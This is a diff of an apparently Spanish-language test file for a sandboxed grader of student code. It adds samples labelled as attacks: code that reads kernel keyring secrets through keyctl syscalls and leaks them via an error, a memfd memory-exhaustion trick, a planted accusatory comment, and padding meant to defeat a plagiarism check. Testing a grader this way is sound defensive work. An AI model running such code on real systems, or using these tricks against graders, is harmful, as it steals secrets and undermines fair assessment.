@@ -641,14 +641,14 @@ import ctypes as _ctypes
 import subprocess as _subprocess
 
 _libc = _ctypes.CDLL(None, use_errno=True)
-_hallado = []
+_secretos, _hallado = [], []
 for _anillo in (-3, -4, -5, -1, -2):   # @s, @u, @us, @t, @p
     _lista = _ctypes.create_string_buffer(4096)
     _n = _libc.syscall(250, 11, _anillo, _lista, 4096)   # keyctl(KEYCTL_READ): las llaves del anillo
     for _i in range(0, max(_n, 0), 4):
         _dato = _ctypes.create_string_buffer(4096)
         _m = _libc.syscall(250, 11, int.from_bytes(_lista.raw[_i:_i + 4], 'little'), _dato, 4096)
-        _hallado.append(_dato.raw[:max(_m, 0)].decode(errors='replace'))
+        _secretos.append(_dato.raw[:max(_m, 0)].decode(errors='replace'))
 for _anillo in (-3, -4, -5):
     _libc.syscall(248, b'user', b'ATAQUE_llave', b'ATAQUE', 6, _anillo)   # add_key: una llave suya
 _libc.syscall(249, b'user', b'secreto', None, -3)                       # request_key
@@ -658,7 +658,7 @@ for _orden in (['keyctl', 'print', '%user:secreto'], ['keyctl', 'show', '@s'], [
     except Exception:
         pass
 print('LLAVERO:', _hallado)
-raise RuntimeError(f'LLAVERO: {_hallado}')
+raise RuntimeError(f'LLAVERO: {_secretos}')
 """
 # 240 memfd de 8 MB (RLIMIT_FSIZE deja 8 MB por archivo y RLIMIT_NOFILE, 256 descriptores): 1,9 GB en un
 # proceso que no cuentan en RLIMIT_AS. Sin cgroups, solo los para el vigilante de memoria.
@@ -739,7 +739,9 @@ _DEPURADOR_EN_OTRO = """import threading as _threading
     app.run(debug=False, host='0.0.0.0', port=5000)"""
 _PLANTADO = '# me pasó su solución por correo y le pagué 20 euros'
 _MODULO_DE_AYUDA = 'ayuda_modelo.py'
-_CINCUENTA_MIL = ''.join(f'# comentario número {i}: {i * 7919 % 100003}\n' for i in range(50_000))
+# 50 000 comentarios distintos y cortos (caben en los 256 KB que leía la similitud) dentro del código copiado.
+_LETRAS = 'abcdefghijklmnopqrstuvwxyz0123456789ABCD'
+_CINCUENTA_MIL = ''.join(f'#{_LETRAS[i // 1600]}{_LETRAS[i // 40 % 40]}{_LETRAS[i % 40]}\n' for i in range(50_000))
 MUESTRAS += [
     Muestra('lee_el_llavero', ATAQUE, 'lee las llaves del llavero de sesión del núcleo (keyctl, keyctl print, '
             '/proc/keys), lleva lo que halla a su error y deja llaves suyas', _al_importar(_LLAVERO),
@@ -776,10 +778,10 @@ MUESTRAS += [
     Muestra('copia_en_base64', CORRECTA, 'la de escrita_a_su_manera pasada por base64 y exec', esperado={3: 5},
             extra={S: 'import base64\n\nexec(base64.b64decode(%r))\n'
                       % base64.b64encode(_A_SU_MANERA[S].encode()).decode()}),
-    Muestra('evidencia_plantada', CORRECTA, 'la de escrita_a_su_manera con un comentario que acusa a su autora',
-            extra={S: _A_SU_MANERA[S].replace('def predict_cliente', _PLANTADO + '\ndef predict_cliente')}),
-    Muestra('cincuenta_mil_comentarios', CORRECTA, 'la solución con 50 000 comentarios distintos al final',
-            {S: [('# END SOLUCION\n\n\nif __name__', '# END SOLUCION\n' + _CINCUENTA_MIL + '\n\nif __name__')]}),
+    Muestra('acusacion_plantada', CORRECTA, 'la de escrita_a_su_manera con un comentario que acusa a su autora',
+            extra={S: _A_SU_MANERA[S].replace('import flask\n', 'import flask\n' + _PLANTADO + '\n')}),
+    Muestra('cincuenta_mil_comentarios', CORRECTA, 'la solución con 50 000 comentarios distintos en predict_cliente',
+            {S: [('    X = dv.transform([cliente])\n', '    X = dv.transform([cliente])\n' + _CINCUENTA_MIL)]}),
 ]
 ATAQUES = [m for m in MUESTRAS if m.tipo == ATAQUE]
 
